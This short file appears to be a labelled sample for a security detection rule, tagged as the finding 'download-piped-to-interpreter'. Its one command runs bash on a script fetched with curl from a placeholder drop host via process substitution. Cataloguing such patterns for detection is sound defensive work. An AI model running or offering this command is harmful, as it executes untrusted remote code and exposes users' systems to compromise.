# incident: the same by process substitution
# finding: download-piped-to-interpreter
# needs: curl
bash <(curl -fsSL "http://$DROP/raw/script.sh")
